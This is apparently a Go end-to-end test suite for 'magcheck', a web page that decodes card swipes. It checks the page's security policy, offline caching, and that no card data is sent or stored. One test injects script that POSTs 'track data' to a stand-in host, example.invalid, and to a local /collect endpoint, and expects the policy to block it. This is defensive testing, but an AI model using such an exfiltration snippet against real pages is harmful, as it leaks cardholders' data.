//go:build !wasm

package e2e

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// readerGap is a reader's pace between key presses.
const readerGap = 2 * time.Millisecond

func TestPageLoads(t *testing.T) {
	p := newPage(t)
	if title := evalAs[string](p, "document.title"); title != "magcheck" {
		t.Errorf("title %q", title)
	}
	if foreign := p.ForeignRequests(); len(foreign) > 0 {
		t.Errorf("requests besides the page's own files: %q", foreign)
	}
	res, _, err := p.get("/")
	if err != nil {
		t.Fatal(err)
	}
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "connect-src 'self'") ||
		!strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("Content-Security-Policy %q", csp)
	}
	// The Permissions-Policy header was understood: Chromium names each
	// feature it does not know in a console error.
	for _, line := range p.Console() {
		if strings.Contains(line, "Permissions-Policy") {
			t.Errorf("console: %s", line)
		}
	}
	allowed := evalAs[map[string]bool](p, `Object.fromEntries(
		['hid', 'microphone', 'keyboard-map', 'camera', 'geolocation', 'usb', 'serial', 'payment', 'clipboard-read']
		.map(f => [f, document.featurePolicy.allowsFeature(f)]))`)
	for feature, want := range map[string]bool{
		"hid": true, "microphone": true, "keyboard-map": true, "serial": true,
		"camera": false, "geolocation": false, "usb": false, "payment": false,
		"clipboard-read": false,
	} {
		if allowed[feature] != want {
			t.Errorf("feature %s allowed: %v, want %v", feature, allowed[feature], want)
		}
	}
	p.Screenshot("ready")
}

// The policy refuses what an injected script would try: sending data to any
// other origin, inline script, eval and inline style (which is also why
// go-app's .Style() cannot be used). Each must be a policy violation, not a
// network error: the other server is up and gets nothing.
func TestContentSecurityPolicy(t *testing.T) {
	var reached atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer other.Close()

	p := newPage(t)
	type result struct {
		Outcomes   []string `json:"outcomes"`
		Violations []string `json:"violations"`
	}
	got := evalAs[result](p, `(async (urls) => {
		const violations = [];
		document.addEventListener('securitypolicyviolation',
			e => violations.push(e.effectiveDirective + ' ' + e.blockedURI));
		const outcomes = [];
		for (const u of urls) {
			try {
				await fetch(u, {method: 'POST', body: 'track data'});
				outcomes.push('fetch sent');
			} catch (e) {
				outcomes.push('fetch ' + e.name);
			}
		}
		const s = document.createElement('script');
		s.textContent = 'window.__inline = true';
		document.head.append(s);
		outcomes.push('inline script ' + (window.__inline ? 'ran' : 'refused'));
		try {
			eval('1');
			outcomes.push('eval ran');
		} catch (e) {
			outcomes.push('eval ' + e.name);
		}
		document.body.setAttribute('style', 'outline: 9px solid red');
		outcomes.push('inline style ' + (getComputedStyle(document.body).outlineStyle === 'solid' ? 'applied' : 'refused'));
		// Violation events are queued: wait for one of each kind.
		const kinds = ['connect-src', 'script-src-elem', 'script-src', 'style-src-attr'];
		for (let i = 0; i < 100 && !kinds.every(k => violations.some(v => v.startsWith(k + ' '))); i++) {
			await new Promise(r => setTimeout(r, 50));
		}
		return {outcomes, violations};
	})(`+jsValue([]string{"http://example.invalid/", other.URL + "/collect"})+`)`)
	want := []string{
		"fetch TypeError",
		"fetch TypeError",
		"inline script refused",
		"eval EvalError",
		"inline style refused",
	}
	if !slices.Equal(got.Outcomes, want) {
		t.Errorf("got\n\t%q\nwant\n\t%q", got.Outcomes, want)
	}
	for _, v := range []string{
		"connect-src http://example.invalid/",
		"connect-src " + other.URL,
		"script-src-elem inline",
		"script-src eval",
		"style-src-attr inline",
	} {
		if !slices.ContainsFunc(got.Violations, func(s string) bool { return strings.HasPrefix(s, v) }) {
			t.Errorf("no violation %q in %q", v, got.Violations)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("the other origin got %d requests", n)
	}
	security := p.TakeSecurity()
	if len(security) < len(want) {
		t.Errorf("%d security log entries for %d violations: %q", len(security), len(want), security)
	}
	for _, s := range security {
		if !strings.Contains(s, "Content Security Policy") {
			t.Errorf("security entry not about the policy: %s", s)
		}
	}
}

// After one load the page works without its server: every asset is in the
// service worker's cache, the page reloads from it and decodes a swipe.
func TestOffline(t *testing.T) {
	p := newPage(t)
	cached := p.WaitOffline()
	for _, u := range p.Requests() {
		path, ok := strings.CutPrefix(u, strings.TrimSuffix(p.URL, "/"))
		if ok && path != "/app-worker.js" && !slices.Contains(cached, path) {
			t.Errorf("the page loaded %s, which is not cached", path)
		}
	}

	p.StopServer()
	if _, _, err := p.get("/"); err == nil {
		t.Fatal("the server still answers")
	}
	p.Reload()
	p.TypeAtReaderSpeed(";4111111111111111=30121010000000000000?\n", "us", false, readerGap)
	p.WaitFor(`[data-track="2"][data-status="ok"]`)
	p.Screenshot("offline")
}

// Nothing read from a card leaves the page: no request after the page has
// loaded, through a swipe and both exports, and no trace in cookies, Web
// Storage, IndexedDB or the Cache API.
func TestNoTrackDataLeaves(t *testing.T) {
	const (
		pan   = "4716259088314470"
		name  = "PRIVACY/TEST"
		swipe = "%B" + pan + "^" + name + "^30121010000000000000?;" + pan + "=30121010000000000000?\n"
	)
	p := newPage(t)
	p.WaitOffline()
	requests, served := len(p.Requests()), len(p.Served())

	p.TypeAtReaderSpeed(swipe, "us", false, readerGap)
	p.WaitFor(`[data-track="2"][data-status="ok"]`)
	p.Screenshot("privacy")
	p.Click("#save-text")
	p.Click("#save-json")

	assertNothingStored(p, pan, name)

	// Checked last, so that a late request has had the time all of the above took.
	if after := p.Requests()[requests:]; len(after) > 0 {
		t.Errorf("the tab made requests after the page loaded: %q", after)
	}
	if after := p.Served()[served:]; len(after) > 0 {
		t.Errorf("the server got requests after the page loaded: %q", after)
	}
	if foreign := p.ForeignRequests(); len(foreign) > 0 {
		t.Errorf("requests besides the page's own files: %q", foreign)
	}
}
